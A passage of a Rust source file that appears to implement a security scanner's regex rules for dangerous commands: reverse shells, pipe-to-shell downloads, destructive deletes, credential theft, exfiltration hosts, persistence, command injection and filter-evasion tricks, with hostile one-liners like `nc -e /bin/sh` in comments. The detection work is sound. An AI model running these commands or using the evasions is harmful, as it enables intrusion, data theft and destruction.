//! Dangerous code and shell commands. Destructive operations are judged by their *target*
//! (`rm -rf /` vs `rm -rf ./build`), network tools by what they do (`nc -e /bin/sh` vs
//! `nc -zv localhost 5432`), decoders by where their output goes (`base64 -d | sh` vs
//! `base64 -d file`). Command injection is judged by *position*: a command after a separator
//! that closes a value (`a.txt; id`, a text that starts with `| ls -l /etc/`) or after an
//! encoded newline (`%0a`, `\n`), not a command inside an ordinary script.

use crate::engine::{Next, Rule, Table, class, set_back};
use crate::types::{BuildError, DetectorKind, Finding, Severity};

/// Blanks between a command and its argument, including the usual filter evasions
/// (URL-encoded space/tab, `${IFS}`, `$IFS$9`).
macro_rules! blank {
    () => {
        r"(?:[ \t]+|%20|%09|\$\{IFS\}|\$IFS(?:\$[0-9])?)"
    };
}

/// What may follow a command word: end of line, a blank, a separator, a quote, an encoded
/// newline.
macro_rules! tail {
    () => {
        r"(?:$|[ \t;&|\x60)\x22'#<>]|\\[nr]|%0[aAdD]|%2[02]|%09|\$\{?IFS)"
    };
}

/// Optional absolute path before a command (`/usr/bin/id`, `/bin/ls`).
macro_rules! binpath {
    () => {
        r"(?:(?:/usr(?:/local)?)?/s?bin/)?"
    };
}

/// Reconnaissance commands that are findings after *any* chaining separator: there is no
/// ordinary reason to chain them onto another command's value.
macro_rules! strong_cmd {
    () => {
        concat!(
            r"(?:",
            binpath!(),
            r"(?:id|whoami)(?:$|[\x60)\x22'#]|[;&|][ \t]*(?:$|[;&\x60\x22'#])|\\[nr]|%0[aAdD]|[ \t]+(?:$|[;&|#/]))",
            r"|",
            binpath!(),
            r"uname",
            blank!(),
            r"-[a-zA-Z]+",
            r"|(?i:systeminfo|sysinfo)",
            tail!(),
            r"|(?i:ipconfig)",
            blank!(),
            r"/all",
            r"|(?i:net)",
            blank!(),
            r"(?i:user|users|view|localgroup|config|share|session|group|accounts)",
            tail!(),
            r"|",
            binpath!(),
            r"netstat",
            blank!(),
            r"-[a-zA-Z]+",
            r"|",
            binpath!(),
            r"(?:cat|more|less|head|tail|nl|tac|strings)",
            blank!(),
            r"/etc/(?:passwd|shadow|group|hosts|issue|hostname)\b",
            r"|(?i:type)",
            blank!(),
            r"(?:%[A-Za-z0-9_]+%|[a-zA-Z]:)\\[^\s;&|]*",
            r"|",
            binpath!(),
            r"ping",
            blank!(),
            r"-[ncitw]",
            blank!(),
            r"?[0-9]+",
            blank!(),
            r"(?:127\.0\.0\.1|localhost)\b",
            r"|(?:/usr)?/bin/(?:ba|z|da)?sh(?:[ \t]+-i)?(?:$|[;&|\x60)\x22'])",
            r"|(?i:cmd(?:\.exe)?)",
            blank!(),
            r"/[ck]\b",
            r")"
        )
    };
}

/// Any shell command that takes the shape of a command (with plausible arguments). Used only
/// where the position already says "injected": the start of a value, after an encoded
/// newline, inside a substitution that follows a separator.
macro_rules! any_cmd {
    () => {
        concat!(
            r"(?:",
            binpath!(),
            r"(?:id|whoami|uname|hostname|pwd|ifconfig|ipconfig|netstat|systeminfo|sysinfo|ls|dir|ps|env|printenv|arp|tasklist)",
            tail!(),
            r"|",
            binpath!(),
            r"(?:cat|type|more|less|head|tail|nl|tac|strings|od|xxd)",
            blank!(),
            r"(?:/|~|%|[A-Za-z]:\\|\.\.?/|[A-Za-z0-9_.\-]+\.(?:php|txt|conf|cfg|ini|log|xml|json|env|py|sh|pl|js|ya?ml|aspx?|jsp|bak|sql|db|pem|key)\b)",
            r"|",
            binpath!(),
            r"(?:sleep|timeout)",
            blank!(),
            r"(?:/t",
            blank!(),
            r")?[0-9]+",
            r"|",
            binpath!(),
            r"ping",
            blank!(),
            r"(?:-|[0-9]|[a-z][A-Za-z0-9_.\-]*\.[a-z])",
            r"|",
            binpath!(),
            r"(?:wget|curl|fetch|lwp-download|certutil|bitsadmin)",
            blank!(),
            r"|",
            binpath!(),
            r"(?:nc|ncat|netcat|telnet|socat)",
            blank!(),
            r"(?:-|[0-9]|[a-z][A-Za-z0-9_.\-]*\.)",
            r"|",
            binpath!(),
            r"(?:perl|python[23]?|ruby|php|node|lua)",
            blank!(),
            r"-[a-zA-Z]*[ecrE]\b",
            r"|",
            binpath!(),
            r"(?:ba|z|k|da|c|tc)?sh",
            tail!(),
            r"|(?i:cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)",
            tail!(),
            r"|",
            binpath!(),
            r"(?:echo|printf)",
            tail!(),
            r"|(?i:net)",
            blank!(),
            r"[a-zA-Z]+",
            r"|(?i:reg(?:\.exe)?)",
            blank!(),
            r"(?i:add|query|delete|save|export)\b",
            r"|(?i:netsh|wmic|taskkill|schtasks|sc|vssadmin|bcdedit|icacls|attrib|rundll32|regsvr32|mshta|cscript|wscript)",
            blank!(),
            r"|",
            binpath!(),
            r"(?:rm|chmod|chown|cp|mv|mkdir|touch|kill|killall|pkill|find|base64|crontab|useradd|usermod|passwd|su|sudo)",
            blank!(),
            r"(?:-|/|~|\.|\*|[0-9])",
            r"|(?:system|exec|passthru|shell_exec|popen|eval)\([ \t]*[\x22'(]",
            r")"
        )
    };
}

/// A chaining separator, plain or encoded (`%0a`, a literal `\n`).
macro_rules! sep_run {
    () => {
        r"(?:[;&|]|%0[aAdD]|\\[nr])[ \t]*(?:(?:[;&|]|%0[aAdD]|%20|\\[nr])[ \t]*)*"
    };
}

/// Separators that may open an injected value (the first byte of the text after an
/// optional quote and a short value): plain and encoded separators, `$(`, a literal `\n`, a
/// terminal escape sequence.
macro_rules! lead_sep {
    () => {
        r"(?:[;&|]|%0[aAdD]|%3[bB]|%26|%7[cC]|\\[nr]|\\(?:033|x1[bB]|e)\[[0-9;]*[A-Za-z]?)"
    };
}

macro_rules! run_sep {
    () => {
        r"(?:[;&|\x60]|\$\(|%0[aAdD]|%20|\\[nr]|\\(?:033|x1[bB]|e)\[[0-9;]*[A-Za-z]?)"
    };
}

/// Host, user and environment data that spyware collects (system env vars, platform,
/// user name, installed packages, hardware, memory, location, command output).
macro_rules! host_src {
    () => {
        r"\bos\.environ\[[ \t]*[\x22'](?:PATH|HOME|USER|USERNAME|USERPROFILE|TEMP|TMP|LANG|COMPUTERNAME|HOSTNAME|SHELL|LOGNAME|USERDOMAIN|PWD|APPDATA)[\x22']|\bos\.getenv\([ \t]*[\x22'](?:PATH|HOME|USER|USERNAME|USERPROFILE|TEMP|TMP|LANG|COMPUTERNAME|HOSTNAME|SHELL|LOGNAME|USERDOMAIN|APPDATA)[\x22']|\b(?:dict|str|json\.dumps)\(os\.environ\)|\bos\.environ\.(?:copy|items)\(\)|\bplatform\.(?:system|version|release|node|uname|platform|machine|processor)\(|\bgetpass\.getuser\(|\bsocket\.gethostname\(|\bpkg_resources\.working_set\b|\bmetadata\.distributions\(|\bpsutil\.[A-Za-z0-9_]+\(|\bsubprocess\.check_output\(|\bnvidia-smi\b|\busb\.core\.find\(|\bquery_devices\(|\bgeocoder\.ip\(|\buuid\.getnode\(|\bwmi\.WMI\("
    };
}

/// Calls that send data off the host.
macro_rules! net_sink {
    () => {
        r"\b(?:requests|httpx|session)\.post\(|\.sendto\(|\.sendall\(|\b(?:sock|socket|s|conn|client)\.send\(|\bpublish\.single\(|\.sendmail\(|\.send_message\(|\.storbinary\(|\bHTTPS?Connection\("
    };
}

/// Commands whose spelling is hidden by quotes, backslashes or carets (`w'h'o'am'i`).
const SPLIT_COMMANDS: &[&str] = &[
    "whoami",
    "id",
    "cat",
    "ls",
    "uname",
    "bash",
    "sh",
    "zsh",
    "nc",
    "ncat",
    "netcat",
    "wget",
    "curl",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "ping",
    "sleep",
    "echo",
    "ifconfig",
    "ipconfig",
    "netstat",
    "systeminfo",
    "powershell",
    "cmd",
    "certutil",
    "chmod",
    "rm",
    "base64",
    "telnet",
    "socat",
    "hostname",
    "env",
    "printenv",
    "passwd",
    "shadow",
    "etc",
    "bin",
    "net",
    "reg",
    "type",
    "dir",
    "tftp",
    "ftp",
    "nslookup",
    "dig",
];

fn rules() -> Vec<Rule> {
    let mut v = base_rules();
    set_back(
        &mut v,
        "code.command_injection.separator",
        &[";", "&", "|", "\\n", "\\r", "%0a", "%0d"],
        class::none,
        0,
    );
    set_back(
        &mut v,
        "code.command_injection.leading_separator",
        &[
            ";", "&", "|", "\\n", "\\r", "%0a", "%0d", "$(", "%3b", "%26", "%7c", "system(",
            "exec(",
        ],
        class::none,
        0,
    );
    set_back(
        &mut v,
        "code.obfuscated.split_command",
        &["'", "\"", "\\", "^", "$@", "${}"],
        ascii_letter,
        16,
    );
    set_back(
        &mut v,
        "code.obfuscated.wildcard_path",
        &["?"],
        wildcard_path_char,
        24,
    );
    set_back(
        &mut v,
        "code.obfuscated.ifs",
        &["$ifs", "${ifs"],
        ascii_letter,
        16,
    );
    v
}

/// ASCII letters (walk-back class for split command words).
fn ascii_letter(c: u8) -> bool {
    c.is_ascii_alphabetic()
}

/// Characters of a wildcard path (walk-back class for `code.obfuscated.wildcard_path`).
fn wildcard_path_char(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'?' | b'*' | b'/' | b'.' | b'_' | b'-')
}

fn base_rules() -> Vec<Rule> {
    use Severity::{Critical, High, Medium};
    let r = crate::engine::rule;
    vec![
        r(
            "reverse_shell",
            "code.reverse_shell.dev_tcp",
            r"/dev/(?:tcp|udp)/[A-Za-z0-9.\-]+/\d+",
            0.95,
            Critical,
        ),
        r(
            "reverse_shell",
            "code.reverse_shell.netcat_exec",
            r"\b(?:nc|ncat|netcat|nc\.traditional|busybox nc)\b[^\n|;]{0,80}?[ \t](?:-[A-Za-z]*[ec][ \t]*|--exec[ \t=]+|--sh-exec[ \t=]+)[\x22']?(?:/bin/|/usr/bin/)?(?:ba|z|k|da|c)?sh\b|\b(?:nc|ncat|netcat)\b[^\n|;]{0,80}?[ \t]-[A-Za-z]*e[ \t]+(?:cmd(?:\.exe)?|powershell)",
            0.95,
            Critical,
        ),
        r(
            "reverse_shell",
            "code.reverse_shell.fifo",
            r"\bmkfifo\b[^\n]{0,80}?\b(?:nc|ncat|netcat|telnet|openssl s_client)\b|\bmknod\b[^\n]{0,40}\bp\b[^\n]{0,80}?\b(?:nc|telnet)\b",
            0.9,
            Critical,
        ),
        r(
            "reverse_shell",
            "code.reverse_shell.socat",
            r"\bsocat\b[^\n]{0,120}?\b(?:exec|system):[^\n]{0,40}?(?:sh|bash|cmd|powershell)\b",
            0.9,
            Critical,
        ),
        r(
            "reverse_shell",
            "code.reverse_shell.scripted",
            r"(?s)\bsocket\.socket\(.{0,400}?\.connect\(.{0,400}?(?:os\.dup2|pty\.spawn|subprocess\.(?:call|Popen|run)\(\[?[\x22'](?:/bin/)?(?:ba)?sh)|\bfsockopen\([^\n]{0,200}?(?:exec|shell_exec|system|passthru|proc_open)\b|\bTCPClient\([^\n]{0,300}?(?:GetStream|iex|Invoke-Expression)|\bIO::Socket::INET\b[^\n]{0,300}?\bexec\b|\bTCPSocket\.(?:new|open)\([^\n]{0,200}?\b(?:exec|spawn|IO\.popen)\b|\bsocket\([A-Za-z]+,[ \t]*PF_INET\b[^\n]{0,300}?\bconnect\([^\n]{0,200}?\bopen\([ \t]*STD(?:IN|OUT|ERR)\b",
            0.9,
            Critical,
        ),
        r(
            "remote_code_execution",
            "code.pipe_to_shell",
            r"\b(?:curl|wget|fetch|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|lwp-download|aria2c)\b[^\n|;]{0,200}?\|[ \t]*(?:sudo[ \t]+(?:-\S+[ \t]+)*)?(?:ba|z|k|da|fi)?sh\b|\b(?:curl|wget)\b[^\n|;]{0,200}?\|[ \t]*(?:sudo[ \t]+)?(?:python[0-9.]*|perl|ruby|node|php)\b(?:[ \t]+-)?[ \t]*(?:$|[;&|)\x22'])",
            0.9,
            Critical,
        ),
        r(
            "remote_code_execution",
            "code.shell_subst_fetch",
            r"(?:\b(?:ba|z)?sh[ \t]+(?:-c[ \t]+)?[\x22']?\$\(|\b(?:ba|z)?sh[ \t]+<\()[ \t]*(?:curl|wget)\b|\b(?:iex|Invoke-Expression)\b[^\n]{0,40}?(?:DownloadString|DownloadFile|Invoke-WebRequest|iwr|irm|Net\.WebClient)|(?:DownloadString|Invoke-WebRequest|iwr|irm)\b[^\n]{0,200}?\|[ \t]*(?:iex|Invoke-Expression)\b",
            0.9,
            Critical,
        ),
        r(
            "remote_code_execution",
            "code.download_exec",
            r"(?s)(?:\b(?:urlretrieve|wget\.download|requests\.get|urlopen|urllib\.request\.urlopen|httpx\.get|aiohttp|urllib3)\b|\.request\([ \t]*[\x22']GET[\x22']|[\x22'](?:wget|curl)[\x22'][ \t]*,).{0,600}?(?:\bexec\(|\beval\(|\bpickle\.loads?\(|\bmarshal\.loads\(|\bsubprocess\.(?:call|run|Popen|check_output)\([^)]{0,120}?[\x22'](?:python[0-9.]*|bash|sh|nohup|chmod)\b|\bos\.system\([^)]{0,120}?(?:python|bash|sh|chmod|\./))",
            0.85,
            Critical,
        ),
        r(
            "remote_code_execution",
            "code.exec_remote_pickle",
            r"\bpickle\.loads?\([ \t]*(?:response|resp|r|res|requests\.get|urlopen|urllib)\b",
            0.85,
            High,
        ),
        r(
            "obfuscated_execution",
            "code.obfuscated.base64_exec",
            r"\bbase64[ \t]+(?:-d|--decode|-D)\b[^\n|;]{0,80}?\|[ \t]*(?:sudo[ \t]+)?(?:ba|z|k|da)?sh\b|\b(?:echo|printf)[ \t]+[\x22']?[A-Za-z0-9+/=]{16,}[\x22']?[ \t]*\|[ \t]*base64[ \t]+(?:-d|--decode|-D)\b[^\n]{0,40}?\|[ \t]*(?:ba|z)?sh\b|\beval[ \t]*\([ \t]*(?:base64_decode|atob|gzinflate|str_rot13|gzuncompress)\b|\bexec\([ \t]*(?:base64\.b64decode|codecs\.decode|zlib\.decompress|bytes\.fromhex|__import__\([\x22']base64)|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,80}?[ \t]-(?:e|en|enc|enco|encodedcommand|ec)[ \t]+[A-Za-z0-9+/=]{20,}|\beval[ \t]+[\x22']?\$\((?:echo|printf)[^\n]{0,200}?base64",
            0.9,
            Critical,
        ),
        r(
            "destructive_fs",
            "code.destructive.rm",
            r"\brm[ \t]+(?:-[A-Za-z]+[ \t]+|--[a-z\-]+[ \t]+)+(?P<v>[^\s;&|]+)",
            0.9,
            Critical,
        ),
        r(
            "destructive_fs",
            "code.destructive.windows",
            r"(?i)\b(?:rd|rmdir)[ \t]+/s[ \t]+(?:/q[ \t]+)?[a-z]:\\(?:windows|users|\s|$)|\bdel[ \t]+(?:/[fsq][ \t]+)+[a-z]:\\(?:\*|windows|\s|$)|\bformat[ \t]+[a-z]:(?:\s|$|/)|\bRemove-Item\b[^\n]{0,60}?-Recurse[^\n]{0,60}?(?:[A-Za-z]:\\(?:\s|$|\*|Windows)|\$env:SystemRoot)|\bvssadmin[ \t]+delete[ \t]+shadows\b|\bwmic[ \t]+shadowcopy[ \t]+delete\b|\bbcdedit\b[^\n]{0,40}recoveryenabled[ \t]+no",
            0.9,
            Critical,
        ),
        r(
            "destructive_disk",
            "code.destructive.disk",
            r"\bdd\b[^\n]{0,80}?\bof=/dev/(?:sd[a-z]|nvme\d|hd[a-z]|xvd[a-z]|vd[a-z]|disk\d|mmcblk\d|mapper/)|\bmkfs(?:\.[a-z0-9]+)?[ \t]+(?:-[A-Za-z]+[ \t]+)*/dev/(?:sd|nvme|hd|xvd|vd|disk|mmcblk)|>[ \t]*/dev/(?:sd[a-z]|nvme\d|hd[a-z])\b|\b(?:shred|wipefs)\b[^\n]{0,40}?/dev/(?:sd|nvme|hd|xvd|vd|disk)|:\(\)[ \t]*\{[ \t]*:[ \t]*\|[ \t]*:[ \t]*&[ \t]*\}[ \t]*;[ \t]*:|\bchmod[ \t]+-R[ \t]+(?:777|000|a-rwx)[ \t]+/(?:\s|$|etc|usr|bin|var)|\bchown[ \t]+-R[ \t]+\S+[ \t]+/(?:\s|$)|\bmv[ \t]+(?:/|/\*|~|~/\*)[ \t]+/dev/null\b",
            0.9,
            Critical,
        ),
        r(
            "destructive_db",
            "code.destructive.database",
            r"(?i)\bdrop[ \t]+(?:database|schema)\b|\bdrop[ \t]+table[ \t]+(?:if[ \t]+exists[ \t]+)?[A-Za-z0-9_.`\x22\[\]]+[ \t]*(?:;|--|$|cascade)|\btruncate[ \t]+table\b|\bdelete[ \t]+from[ \t]+[A-Za-z0-9_.`\x22\[\]]+[ \t]*(?:;|$)|\bdb\.dropDatabase\(\)|\bFLUSHALL\b|\bdb\.[A-Za-z0-9_]+\.drop\(\)",
            0.75,
            High,
        ),
        r(
            "destructive_fs",
            "code.destructive.python",
            r#"\b(?:shutil\.rmtree|os\.removedirs|os\.rmdir|os\.remove|os\.unlink|Path\([^)]*\)\.unlink)\([ \t]*[rbf]?["'](?:/|/(?:etc|bin|sbin|usr|lib|lib64|boot|var|root|home|sys|proc|dev)(?:/[^"']*)?|~|~/|C:\\\\?(?:Windows)?[^"']*)["']"#,
            0.85,
            Critical,
        ),
        r(
            "credential_access",
            "code.credential_access.files",
            r"(?:/etc/shadow|/etc/gshadow|/etc/sudoers|/etc/master\.passwd|~?/\.ssh/(?:id_[a-z0-9]+|authorized_keys|known_hosts)|/root/\.ssh|\.aws/credentials|\.git-credentials|\.docker/config\.json|\.kube/config|\.netrc|\.pgpass|\.bash_history|/proc/(?:self|\d+)/environ|Login Data|Cookies\.sqlite|logins\.json|key4\.db|\\config\\SAM\b|%SYSTEMROOT%\\repair\\SAM|%SYSTEMROOT%\\repair\\SYSTEM|\\repair\\SAM|NTDS\.dit|wp-config\.php)",
            0.75,
            High,
        ),
        r(
            "credential_access",
            "code.credential_access.etc_passwd",
            r"\b(?:cat|less|more|head|tail|type|cp|scp|curl|nl|tac|strings|base64|xxd|od|grep|awk|sed)\b[^\n;|&]{0,40}?/etc/(?:passwd|group|hosts|issue|hostname)\b|(?:\.\./){2,}(?:etc/passwd|windows/win\.ini)",
            0.75,
            High,
        ),
        r(
            "credential_access",
            "code.credential_access.tools",
            r"(?i)\b(?:mimikatz|sekurlsa|lsadump|procdump[^\n]{0,40}lsass|comsvcs\.dll[^\n]{0,40}minidump|reg(?:\.exe)?[ \t]+save[ \t]+hklm\\(?:sam|system|security)|security[ \t]+(?:find|dump)-(?:generic|internet)-password|secretsdump|laZagne|hashdump|keychain_dumper|Get-Clipboard|pbpaste|xsel[ \t]+(?:-b|--clipboard)|xclip[ \t]+-o|pyperclip\.paste|pynput\.keyboard|GetAsyncKeyState|ImageGrab\.grab)\b",
            0.7,
            High,
        ),
        r(
            "exfiltration",
            "code.exfiltration.paste_host",
            r"(?i)\b(?:pastebin\.com|paste\.ee|hastebin\.com|ghostbin|transfer\.sh|ngrok\.io|ngrok-free\.app|ngrok\.app|webhook\.site|requestbin\.|pipedream\.net|burpcollaborator\.net|oastify\.com|interact\.sh|\.oast\.[a-z]+|trycloudflare\.com|serveo\.net|localtunnel\.me|loca\.lt|file\.io|0x0\.st|anonfiles|discord(?:app)?\.com/api/webhooks|hooks\.slack\.com/services|api\.telegram\.org/bot)",
            0.6,
            High,
        ),
        r(
            "exfiltration",
            "code.exfiltration.upload",
            r"\b(?:curl|wget)\b[^\n]{0,120}?(?:[ \t](?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file|--post-file)[ \t=]+[\x22']?[A-Za-z_]*=?@?[^\s]{0,80}?(?:\.ssh|/etc/|\.env|credentials|id_rsa|\.aws|passwd|shadow|\$\(|`|history|\.pem|\.key|/home/|/root/|/tmp/|/path/to/)|https?://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[^\n]{0,80}?[ \t](?:-d|--data|-F|-T|--upload-file))|\|[ \t]*(?:nc|ncat|netcat)[ \t]+\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[ \t]+\d+|\brequests\.post\([^\n]{0,200}?(?:clipboard|keystroke|password|cookies|credentials|files=\{|data=(?:data|file|clipboard|content|f\.read))",
            0.8,
            High,
        ),
        r(
            "persistence",
            "code.persistence",
            r"(?i)(?:>>?[ \t]*(?:/etc/crontab|/var/spool/cron|/etc/cron\.d/|~/\.bashrc|~/\.bash_profile|~/\.profile|~/\.zshrc|/etc/profile|/etc/rc\.local|/etc/init\.d/|~/\.ssh/authorized_keys|/root/\.ssh/authorized_keys|\.config/autostart)|\bcrontab[ \t]+-l\b[^\n]{0,80}?\|[ \t]*crontab[ \t]+-|\bschtasks(?:\.exe)?[ \t]+/create\b|\breg(?:\.exe)?[ \t]+add[^\n]{0,80}?\\(?:CurrentVersion\\Run|Winlogon)|\bNew-ItemProperty\b[^\n]{0,80}?CurrentVersion\\Run|\bsc(?:\.exe)?[ \t]+create\b[^\n]{0,80}?binpath)",
            0.75,
            High,
        ),
        r(
            "privilege_escalation",
            "code.privilege_escalation",
            r"(?:>>?[ \t]*/etc/(?:sudoers|passwd|shadow)\b|\bNOPASSWD:[ \t]*ALL\b|\bchmod[ \t]+(?:[ugoa]*\+s|[4267][0-7]{3})[ \t]+(?:/bin/|/usr/bin/|/usr/local/bin/)?(?:ba|da|z)?sh\b|\bchmod[ \t]+u\+s\b|\busermod[ \t]+-a?G[ \t]+(?:sudo|wheel|root|admin|docker)\b|\bsetcap[ \t]+cap_setuid|\bnet[ \t]+localgroup[ \t]+administrators[ \t]+\S+[ \t]+/add\b|\bnet[ \t]+user[ \t]+\S+[ \t]+\S+[ \t]+/add\b|\bdocker[ \t]+run\b[^\n]{0,80}?(?:-v[ \t]+/:/|--privileged[^\n]{0,40}?(?:chroot|nsenter)|--pid[ =]host[^\n]{0,40}nsenter)|\bnsenter[ \t]+(?:-t[ \t]+1|--target[ \t]+1)\b)",
            0.8,
            High,
        ),
        r(
            "denial_of_service",
            "code.dos.flood_loop",
            r"(?s)\bwhile[ \t]+(?:True|1|true)[ \t]*:.{0,240}?(?:\bos\.fork\(|\brequests\.(?:get|post)\(|\.connect\(|\bsend\(|\bsubprocess\.[A-Za-z0-9_]+\(|\bos\.system\(|\.append\(|\.Tk\(|\bcreate_[A-Za-z0-9_]+\(|\bthreading\.Thread\()|\bos\.fork\(\)[^\n]{0,40}\bos\.fork\(\)",
            0.75,
            High,
        ),
        r(
            "exfiltration",
            "code.exfiltration.collect_and_post",
            r"(?s)(?:\bopen\([^)\n]{0,120}?[\x22']rb?[\x22']|\bpsutil\.[A-Za-z0-9_]+|\bsubprocess\.check_output\(|\bgeocoder\.|\busb\.core|\bsounddevice|\bgetpass\.|\bImageGrab|\bImage\.open\(|cookies?\.(?:txt|pkl|sqlite)|\bCookieJar\b).{0,500}?(?:\brequests\.post\(|\.storbinary\(|\.sendall\(|\bsock\.send\(|\bhttp\.client\.HTTPS?Connection\(|\bsmtplib\.)",
            0.7,
            High,
        ),
        r(
            "persistence",
            "code.persistence.file_tamper",
            r"\bopen\([ \t]*(?:[rbf]?[\x22'](?:/etc/hosts|/etc/passwd|/etc/shadow|/etc/crontab|/etc/sudoers|/etc/rc\.local|/etc/ld\.so\.preload|/etc/profile|/etc/init\.d/[^\x22'\n]{1,40}|/etc/systemd/system/[^\x22'\n]{1,60}|/boot/[^\x22'\n]{1,60}|[^\x22'\n]{0,60}authorized_keys|[^\x22'\n]{0,60}/\.bashrc)[\x22']|auth_file|hosts_file)[ \t]*,[ \t]*[\x22'][aw]\+?[\x22']|\bos\.path\.join\([^)\n]{0,60}[\x22']authorized_keys[\x22']",
            0.75,
            High,
        ),
        r(
            "ransomware",
            "code.ransomware.encrypt_files",
            r"(?s)\b(?:Fernet|AES\.new|Cipher\()\b?.{0,600}?(?:\bos\.walk\(|\.encrypt\([^)\n]{0,80}\)[^\n]{0,80}\bwrite\(|\bwith[ \t]+open\([^)\n]{0,120}[\x22']wb[\x22'])",
            0.75,
            High,
        ),
        r(
            "system_tamper",
            "code.system_tamper",
            r"\bpsutil\.Process\([^)\n]{0,40}\)\.(?:terminate|kill)\(|\bWin32_NetworkAdapterConfiguration\b[^\n]{0,120}|\.Disable\(\)|\bsystemctl[ \t]+(?:stop|disable|mask)[ \t]+\S|\b(?:xmrig|cpuminer|minerd|cryptomine[A-Za-z0-9_]*|coinhive)\b|\bminer_url\b",
            0.7,
            High,
        ),
        r(
            "command_injection",
            "code.command_injection.separator",
            concat!(
                sep_run!(),
                r"(?:",
                strong_cmd!(),
                r"|(?:\x60|\$\()[ \t]*",
                any_cmd!(),
                r")"
            ),
            0.6,
            High,
        ),
        r(
            "command_injection",
            "code.command_injection.leading_separator",
            concat!(
                r"\A[ \t]*(?:[\x22'\x60]|%2[27])?[ \t]*",
                r"(?:[A-Za-z0-9]{1,3}[)\x22']*|(?:[^\s;&|\x60]{0,40}[*)$'\x22][)'\x22]*|[0-9]{1,3}(?:\.[0-9]{1,3}){3})[ \t]*)?",
                r"(?:",
                lead_sep!(),
                r")",
                r"[ \t]*(?:",
                run_sep!(),
                r"[ \t]*)*",
                any_cmd!(),
                r"|\A[ \t]*[\x22']?[ \t]*(?:[;&|][ \t]*)*(?:system|exec|passthru|shell_exec|popen|eval)\([ \t]*[\x22']",
                any_cmd!(),
                r"|\A[ \t]*(?:[\x22'\x60]|%2[27])?[ \t]*\$\([ \t]*(?:",
                run_sep!(),
                r"[ \t]*)*",
                any_cmd!(),
                r"|\A[\x22']\r?\n[ \t]*",
                strong_cmd!(),
                r"|\A[ \t]*[\x22']?[ \t]*(?:\x60|\$\()[ \t]*",
                binpath!(),
                r"(?:id|whoami|hostname|uname[ \t]+-a)[ \t]*[\x60)][ \t]*(?:$|[;&|\x22'#])",
            ),
            0.65,
            High,
        ),
        r(
            "command_injection",
            "code.command_injection.encoded_newline",
            concat!(r"%0[aAdD](?:%0[aAdD]|%20|%09|[ \t+])*", any_cmd!()),
            0.65,
            High,
        ),
        r(
            "command_injection",
            "code.command_injection.subst_in_url",
            concat!(
                r"\bhttps?://[^\s\x22'<>]{0,200}?(?:\x60|\$\()[ \t]*",
                any_cmd!()
            ),
            0.75,
            High,
        ),
        r(
            "command_injection",
            "code.command_injection.shellshock",
            r"\(\)[ \t]*\{[ \t]*(?::|_|[0-9]+)[ \t]*;[ \t]*\}[ \t]*;",
            0.85,
            High,
        ),
        r(
            "command_injection",
            "code.command_injection.php_eval",
            r"\{\$\{@?[A-Za-z_][A-Za-z0-9_]*\(|\$\{@[A-Za-z_][A-Za-z0-9_]*\(",
            0.8,
            High,
        ),
        r(
            "command_injection",
            "code.command_injection.ssi",
            r"(?i)<!--#exec[ \t]+(?:cmd|cgi)[ \t]*=",
            0.85,
            High,
        ),
        r(
            "command_injection",
            "code.command_injection.phpinfo",
            r"\bphpinfo\([ \t]*\)",
            0.4,
            Medium,
        ),
        r(
            "webshell",
            "code.webshell.php",
            r"<\?(?:php|=)?[ \t]*@?(?:system|passthru|shell_exec|exec|eval|assert|popen|proc_open|pcntl_exec)[ \t]*\(|\b(?:system|passthru|shell_exec|exec|eval|assert|popen|proc_open|pcntl_exec|create_function|call_user_func)[ \t]*\([ \t]*@?(?:(?:base64_decode|gzinflate|str_rot13)\([ \t]*)?\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES)\b|<\?(?:php|=)?[ \t]*\x60[^\x60\n]{0,40}\$_(?:GET|POST|REQUEST)",
            0.9,
            Critical,
        ),
        r(
            "obfuscated_execution",
            "code.obfuscated.split_command",
            r"[A-Za-z]+(?:(?:''|\x22\x22|\\|\^|\$@|\$\{\})[A-Za-z]+|'[A-Za-z]+'[A-Za-z]*|\x22[A-Za-z]+\x22[A-Za-z]*)+",
            0.75,
            High,
        ),
        r(
            "obfuscated_execution",
            "code.obfuscated.wildcard_path",
            r"/[A-Za-z0-9?*._\-]{1,16}(?:/[A-Za-z0-9?*._\-]{1,16}){1,4}",
            0.7,
            High,
        ),
        r(
            "obfuscated_execution",
            "code.obfuscated.ifs",
            r"[A-Za-z]{2,}(?:\$\{IFS(?:[%#:][^}\n]{0,8})?\}|\$IFS(?:\$[0-9])?)[^\s;&|]",
            0.8,
            High,
        ),
        r(
            "obfuscated_execution",
            "code.obfuscated.brace_expansion",
            r"\{(?:cat|ls|id|nc|ncat|wget|curl|bash|sh|echo|ping|whoami|uname|rm|chmod|python[23]?|perl|base64|tftp),[^{}\s]{0,80}?[/\-.$][^{}\s]{0,80}\}",
            0.8,
            High,
        ),
        r(
            "obfuscated_execution",
            "code.obfuscated.char_encoding",
            r"\$'(?:\\x[2-7][0-9a-fA-F]|\\1[0-7]{2}){3,}|\b(?:echo|printf)\b[^|\n]{0,12}[\x22'](?:\\x[0-9a-fA-F]{2}){4,}[^|\n]{0,40}\|[ \t]*(?:ba|z)?sh\b|\$\{(?:PATH|HOME|PWD|SHELLOPTS|LS_COLORS)(?::-?[0-9]+){1,2}\}|(?i:%(?:COMSPEC|PATHEXT|PROGRAMFILES|ProgramData|SystemRoot|windir|PUBLIC|ALLUSERSPROFILE|APPDATA|CommonProgramFiles|PSModulePath):~-?[0-9]+(?:,-?[0-9]+)?%)|\|[ \t]*rev[ \t]*\|[ \t]*(?:ba|z)?sh\b|\$\([ \t]*rev[ \t]*<<<|\bxxd[ \t]+-r[ \t]+-p\b[^\n|]{0,60}\|[ \t]*(?:ba|z)?sh\b|\$\([ \t]*(?:echo|printf)\b[^)\n]{0,200}?\|[ \t]*base64[ \t]+(?:-d|--decode)\b",
            0.8,
            High,
        ),
        r(
            "defense_evasion",
            "code.defense_evasion",
